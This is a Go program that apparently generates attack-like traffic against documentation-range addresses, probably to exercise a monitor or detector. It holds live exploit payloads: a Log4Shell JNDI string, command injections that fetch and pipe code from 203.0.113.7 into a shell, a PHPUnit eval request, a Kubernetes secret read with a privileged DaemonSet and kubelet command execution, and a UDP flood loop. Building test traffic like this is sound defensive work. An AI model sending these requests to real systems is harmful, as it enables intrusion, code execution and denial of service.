package main

import (
	"fmt"
	"net"
	"strconv"
)

// scanPorts tries ports of one host.
func scanPorts(args []string) error {
	count, err := strconv.Atoi(arg(args, 1, "40"))
	if err != nil {
		return err
	}
	each(count, func(i int) {
		dialQuietly(net.JoinHostPort(arg(args, 0, "198.18.60.7"), strconv.Itoa(1000+i)))
	})
	return nil
}

// exploit sends what attacks on known flaws look like. Nothing that could run
// is behind the addresses.
func exploit([]string) error {
	say("GET", "http://203.0.113.70:8983/solr/admin/cores", "", "User-Agent", "${jndi:ldap://203.0.113.7:1389/a}")
	say("GET", "http://203.0.113.71/cgi-bin/luci/;stok=/locale?form=country&country=$(wget+http://203.0.113.7/x)", "")
	say("POST", "http://203.0.113.72:8088/ws/v1/cluster/apps", `{"am-container-spec":{"commands":{"command":"curl http://203.0.113.7/x | sh"}}}`)
	say("POST", "http://203.0.113.73/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", `<?php echo 1;`)
	return nil
}

// shipLogs sends lines of a log in which others' attacks stand, and searches.
func shipLogs([]string) error {
	say("POST", "http://logs.example.test/loki/api/v1/push", `{"streams":[{"stream":{"job":"nginx"},"values":[["1","GET /?x=${jndi:ldap://203.0.113.7/a} 404"]]}]}`)
	say("GET", "http://search.example.test/search?q=how+to+use+wget+and+curl", "")
	return nil
}

// lookup asks for names.
func lookup(names []string) error {
	for _, n := range names {
		addresses, err := net.LookupHost(n)
		fmt.Println(n, addresses, err)
	}
	return nil
}

// kubeSpread takes over a cluster that is not its own.
func kubeSpread([]string) error {
	say("GET", "http://203.0.113.80:6443/api/v1/secrets", "")
	say("POST", "http://203.0.113.80:6443/apis/apps/v1/namespaces/kube-system/daemonsets",
		`{"kind":"DaemonSet","metadata":{"name":"node-agent"},"spec":{"template":{"spec":{"hostPID":true,"volumes":[{"name":"h","hostPath":{"path":"/"}}],"containers":[{"name":"c","image":"alpine","command":["sleep","1"],"securityContext":{"privileged":true}}]}}}}`)
	for _, node := range []string{"203.0.113.81", "203.0.113.82", "203.0.113.83"} {
		say("GET", "http://"+node+":10250/pods", "")
		say("POST", "http://"+node+":10250/run/default/web-7d4b9c6f5-x2x7k/web", "cmd=id", "Content-Type", "application/x-www-form-urlencoded")
	}
	return nil
}

// kubeScrape looks at its own cluster, as monitors do.
func kubeScrape([]string) error {
	say("GET", "http://kubernetes.default.svc:6443/api/v1/namespaces/default/pods", "")
	say("GET", "http://kubernetes.default.svc:6443/api/v1/namespaces/default/secrets/registry", "")
	say("GET", "http://10.0.0.7:10250/metrics", "")
	return nil
}

// flood sends n datagrams of nothing to one place.
func flood(args []string) error {
	n, err := strconv.Atoi(arg(args, 1, "6000"))
	if err != nil {
		return err
	}
	conn, err := net.Dial("udp", arg(args, 0, "203.0.113.90:80"))
	if err != nil {
		return err
	}
	defer conn.Close()
	nothing := make([]byte, 1)
	for range n {
		if _, err := conn.Write(nothing); err != nil {
			return err
		}
	}
	return nil
}
